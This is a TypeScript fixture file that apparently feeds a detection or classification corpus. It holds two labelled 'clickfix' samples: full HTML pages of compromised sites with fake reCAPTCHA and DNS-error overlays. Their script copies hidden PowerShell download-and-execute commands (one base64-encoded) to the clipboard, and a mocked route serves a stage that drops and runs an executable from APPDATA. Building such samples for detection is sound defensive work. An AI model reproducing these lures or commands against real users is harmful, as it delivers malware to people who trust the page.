import type { Entry } from '../entry.js';
import type { Route } from '../../corpus/corpus.js';

// Paste-and-run lures: the command is written to the clipboard at click time, the steps appear in script.
const raw = String.raw;
const json = (v: unknown): Route => ({ status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify(v) });
const text = (body: string): Route => ({ status: 200, headers: { 'content-type': 'text/plain' }, body });

export const entries: Entry[] = [
  {
    id: 'c-clickfix-recaptcha-ps',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://lakeshore-yoga-studio.com/class-schedule/',
    body: raw`<!DOCTYPE html>
<html lang="en-US"><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Class Schedule – Lakeshore Yoga Studio</title>
<link rel="stylesheet" href="/wp-content/themes/astra/style.css?ver=4.1.5">
<style>#ov{position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:99999;display:flex;align-items:center;justify-content:center;font-family:Roboto,Arial,sans-serif}.rc{width:304px;border:1px solid #d3d3d3;border-radius:3px;background:#f9f9f9;box-shadow:0 0 4px 1px rgba(0,0,0,.08);padding:0 12px;height:78px;display:flex;align-items:center}.rc .cb{width:24px;height:24px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer;margin-right:12px}.rc .t{flex:1;font-size:14px}.rc .lg{text-align:center;font-size:9px;color:#555;width:60px}.st{display:none;width:360px;background:#fff;border:1px solid #ddd;box-shadow:0 2px 10px #0002;padding:20px;margin-top:10px;font-size:14px}.st ol{padding-left:20px;line-height:1.9}.k{background:#eee;border:1px solid #ccc;border-radius:3px;padding:1px 6px;font-family:monospace}.hdr{background:#4a90e2;color:#fff;margin:-20px -20px 14px;padding:14px 20px;font-size:16px}</style></head>
<body class="page-template-default">
<header class="site-header"><a href="/">Lakeshore Yoga Studio</a></header>
<main><h1>Class Schedule</h1><p>Vinyasa Flow · Mon/Wed 7:00am · Restorative · Thu 6:30pm · Yin · Sun 5pm</p></main>
<div id="ov"><div><div class="rc"><div class="cb" id="cb"></div><div class="t">I'm not a robot</div><div class="lg">&#8634;<br>reCAPTCHA<br>Privacy - Terms</div></div>
<div class="st" id="st"><div class="hdr">Verify You Are Human</div>Please verify that you are a human to continue.<ol><li>Press &amp; hold the Windows Key <span class="k">&#8862;</span> + <span class="k">R</span>.</li><li>In the verification window, press <span class="k">Ctrl</span> + <span class="k">V</span>.</li><li>Press <span class="k">Enter</span> on your keyboard to finish.</li></ol><p style="font-size:12px;color:#777">You will observe and agree: <br><i>✅ "I am not a robot - reCAPTCHA Verification ID: <span id="vid"></span>"</i></p><button id="vb" style="background:#4a90e2;color:#fff;border:0;padding:8px 20px;border-radius:3px">Verify</button></div></div></div>
<script>
(function(){
  var vid = Math.floor(1000 + Math.random() * 9000);
  document.getElementById('vid').textContent = vid;
  function payload(){
    var h = ['ht','tps','://','cdn-yoga','-assets.','com/','wp/','ver.','txt'].join('');
    return 'powershell -w hidden -nop -c "$u=\'' + h + '\';iex (iwr $u -UseBasicParsing).Content" # \u2705 \'\'I am not a robot - reCAPTCHA Verification ID: ' + vid + '\'\'';
  }
  function put(t){
    if (navigator.clipboard && window.isSecureContext) return navigator.clipboard.writeText(t).catch(fallback.bind(null, t));
    fallback(t);
  }
  function fallback(t){ var a = document.createElement('textarea'); a.value = t; a.style.position = 'fixed'; a.style.opacity = '0'; document.body.appendChild(a); a.select(); document.execCommand('copy'); a.remove(); }
  document.getElementById('cb').addEventListener('click', function(){ put(payload()); document.getElementById('st').style.display = 'block'; });
  document.getElementById('vb').addEventListener('click', function(){ put(payload()); this.textContent = 'Waiting for verification…'; });
})();
</script>
</body></html>`,
    routes: {
      'cdn-yoga-assets.com/wp/ver.txt': text(raw`$d="$env:APPDATA\svc";New-Item -ItemType Directory -Force -Path $d|Out-Null;$z="$d\u.zip";iwr 'https://cdn-yoga-assets.com/wp/upd.zip' -OutFile $z;Expand-Archive $z $d -Force;Start-Process "$d\client32.exe";Remove-Item $z`),
    },
  },
  {
    id: 'c-clickfix-json-dns-pt',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://noticias-regionais.com.br/economia/inflacao-marco',
    body: raw`<!doctype html><html lang="pt-BR"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Inflação de março surpreende mercado | Notícias Regionais</title>
<style>body{font-family:Arial,sans-serif;margin:0}.np{max-width:760px;margin:0 auto;padding:20px}#x{position:fixed;inset:0;background:#111c;display:none;align-items:center;justify-content:center;z-index:9}#x .p{background:#fff;border-radius:10px;max-width:500px;padding:26px}#x button{background:#f48120;border:0;color:#fff;padding:11px 22px;border-radius:5px;font-size:15px}</style></head>
<body><div class="np"><h1>Inflação de março surpreende mercado</h1><p>O índice oficial subiu 0,83% no mês, acima das projeções…</p></div>
<div id="x"><div class="p" id="p"></div></div>
<script>
fetch('/wp-json/wp/v2/settings-cache?_=' + Date.now()).then(function (r) { return r.json(); }).then(function (c) {
  if (!c.on || localStorage.getItem(c.key)) return;
  var L = c.i18n[(navigator.language || 'pt').slice(0, 2)] || c.i18n.pt;
  var cmd = c.p.map(function (x) { return atob(x); }).join('');
  var p = document.getElementById('p');
  p.innerHTML = '<h2>' + L.t + '</h2><p>' + L.d + '</p><button id="b">' + L.b + '</button><div id="s"></div>';
  document.getElementById('x').style.display = 'flex';
  document.getElementById('b').onclick = function () {
    navigator.clipboard.writeText(cmd + ' ' + L.tag).then(function () {
      document.getElementById('s').innerHTML = '<ol>' + L.s.map(function (x) { return '<li>' + x + '</li>'; }).join('') + '</ol>';
      localStorage.setItem(c.key, 1);
    });
  };
});
</script></body></html>`,
    routes: {
      'noticias-regionais.com.br/wp-json/wp/v2/settings-cache': json({
        on: true, key: '_wpc_v',
        p: ['Y21kIC9jIHN0YXJ0IC9taW4g', 'cG93ZXJzaGVsbCAtbm9wIC13IGggLWMg', 'ImlleCAoaXJtIGh0dHBzOi8vZG5zLXJlc29sdmVyLWZpeC5jb20vci5wczEpIg=='],
        i18n: {
          pt: { t: 'Erro de DNS detectado', d: 'Seu navegador não conseguiu resolver o servidor de conteúdo. Siga as etapas para corrigir a conexão.', b: 'Corrigir', tag: '# Verificação de DNS concluída', s: ['Pressione <b>Windows + R</b>', 'Pressione <b>Ctrl + V</b>', 'Pressione <b>Enter</b>'] },
          es: { t: 'Error de DNS detectado', d: 'Su navegador no pudo resolver el servidor de contenido.', b: 'Corregir', tag: '# Verificación de DNS completada', s: ['Pulse <b>Windows + R</b>', 'Pulse <b>Ctrl + V</b>', 'Pulse <b>Intro</b>'] },
          en: { t: 'DNS error detected', d: 'Your browser could not resolve the content server.', b: 'Fix', tag: '# DNS check complete', s: ['Press <b>Windows + R</b>', 'Press <b>Ctrl + V</b>', 'Press <b>Enter</b>'] },
        },
      }),
    },
  },
];
